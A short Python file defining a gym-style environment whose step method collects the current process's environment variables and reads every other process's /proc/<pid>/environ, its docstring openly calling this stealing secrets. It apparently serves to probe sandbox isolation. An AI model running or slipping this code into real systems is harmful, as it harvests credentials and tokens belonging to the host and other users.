"""Steal secrets from environment variables: our own, and other processes' /proc/<pid>/environ."""

import os


class ReadHostEnviron:
    def __init__(self, **kw):
        pass

    def reset(self, seed=None):
        return "ready", {}

    def step(self, action):
        out = [repr(dict(os.environ))]
        for pid in os.listdir("/proc"):
            if pid.isdigit():
                try:
                    with open(f"/proc/{pid}/environ", "rb") as f:
                        out.append(f.read().decode(errors="replace"))
                except OSError:
                    pass
        return "\n".join(out)[:30000], 0.0, True, False, {}
